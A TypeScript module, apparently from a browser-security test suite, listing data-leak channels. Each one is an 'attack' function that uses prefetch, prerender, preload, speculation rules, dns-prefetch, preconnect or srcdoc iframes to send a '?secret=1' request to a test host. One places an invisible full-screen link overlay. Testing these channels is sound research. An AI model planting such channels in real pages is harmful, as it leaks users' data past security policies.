import type { Channel } from "./channel.ts";

/** Resource hints: the browser connects or asks DNS although no content was requested. */
export const HINTS: readonly Channel[] = [
  {
    id: "link_prefetch",
    family: "hint",
    entry: 10,
    attack: (t) => t.element("link", { rel: "prefetch", href: `${t.base}/c?secret=1` }),
  },
  {
    id: "link_prefetch_https",
    family: "hint",
    entry: 10,
    attack: (t) => t.element("link", { rel: "prefetch", href: `${t.tls}/c?secret=1` }),
  },
  {
    id: "link_prerender",
    family: "hint",
    entry: 10,
    attack: (t) => t.element("link", { rel: "prerender", href: `${t.base}/c?secret=1` }),
  },
  {
    id: "link_preload",
    family: "hint",
    entry: 10,
    attack: (t) =>
      t.element("link", { rel: "preload", as: "image", href: `${t.base}/img?secret=1` }),
  },
  {
    id: "link_modulepreload",
    family: "hint",
    entry: 10,
    attack: (t) => t.element("link", { rel: "modulepreload", href: `${t.base}/js?secret=1` }),
  },
  {
    id: "link_icon",
    family: "hint",
    entry: 10,
    attack: (t) => t.element("link", { rel: "icon", href: `${t.base}/img?secret=1` }),
  },
  {
    id: "link_manifest",
    family: "hint",
    entry: 10,
    attack: (t) => t.element("link", { rel: "manifest", href: `${t.base}/manifest?secret=1` }),
  },
  {
    id: "link_dictionary",
    family: "hint",
    entry: 10,
    attack: (t) =>
      t.element("link", { rel: "compression-dictionary", href: `${t.base}/dictionary?secret=1` }),
  },
  {
    id: "spec_prefetch",
    family: "hint",
    entry: 17,
    attack: (t) => {
      const rules = document.createElement("script");
      rules.type = "speculationrules";
      rules.textContent = JSON.stringify({
        prefetch: [{ urls: [`${t.tls}/c?secret=1`], eagerness: "immediate" }],
      });
      document.head.append(rules);
    },
  },
  {
    id: "spec_prerender",
    family: "hint",
    entry: 17,
    attack: (t) => {
      const rules = document.createElement("script");
      rules.type = "speculationrules";
      rules.textContent = JSON.stringify({
        prerender: [{ urls: [`${t.tls}/c?secret=1`], eagerness: "immediate" }],
      });
      document.head.append(rules);
    },
  },
  {
    id: "dns_prefetch",
    family: "hint",
    entry: 11,
    onlyLooksUp: true,
    attack: (t) => t.element("link", { rel: "dns-prefetch", href: `//${t.host}` }),
  },
  {
    id: "preconnect",
    family: "hint",
    entry: 12,
    attack: (t) => {
      const scheme = new URL(t.base).protocol;
      t.element("link", { rel: "preconnect", href: `${scheme}//${t.host}:${t.tcp}` });
    },
  },
  {
    id: "srcdoc_preconnect",
    family: "hint",
    entry: 12,
    attack: (t) => {
      const { protocol } = new URL(t.base);
      const srcdoc = `<link rel=preconnect href="${protocol}//${t.host}:${t.tcp}">`;
      t.element("iframe", { srcdoc });
    },
  },
  {
    id: "srcdoc_dns_prefetch",
    family: "hint",
    entry: 11,
    onlyLooksUp: true,
    attack: (t) => t.element("iframe", { srcdoc: `<link rel=dns-prefetch href="//${t.host}">` }),
  },
  {
    id: "srcdoc_box_preconnect",
    family: "hint",
    entry: 12,
    attack: (t) => {
      const { protocol } = new URL(t.base);
      const srcdoc = `<link rel=preconnect href="${protocol}//${t.host}:${t.tcp}">`;
      t.element("iframe", { sandbox: "allow-scripts", srcdoc });
    },
  },
  {
    id: "srcdoc_box_dns_prefetch",
    family: "hint",
    entry: 11,
    onlyLooksUp: true,
    attack: (t) =>
      t.element("iframe", {
        sandbox: "allow-scripts",
        srcdoc: `<link rel=dns-prefetch href="//${t.host}">`,
      }),
  },
  {
    id: "preload_fetch",
    family: "hint",
    entry: 10,
    attack: (t) =>
      t.element("link", {
        rel: "preload",
        as: "fetch",
        crossorigin: "",
        href: `${t.base}/c?secret=1`,
      }),
  },
  {
    id: "preload_font",
    family: "hint",
    entry: 10,
    attack: (t) =>
      t.element("link", {
        rel: "preload",
        as: "font",
        crossorigin: "",
        href: `${t.base}/font?secret=1`,
      }),
  },
  {
    id: "preload_imagesrcset",
    family: "hint",
    entry: 10,
    attack: (t) =>
      t.element("link", { rel: "preload", as: "image", imagesrcset: `${t.base}/img?secret=1 1x` }),
  },
  {
    id: "anchor_hover",
    family: "hint",
    entry: 11,
    // The pointer comes with the click; the browser looks the name up before it.
    onlyLooksUp: true,
    attack: (t) => {
      const link = t.element("a", { href: `${t.base}/hover?secret=1` });
      link.style.cssText = "position:fixed;inset:0;z-index:9";
      link.onclick = (event) => event.preventDefault();
    },
  },
];
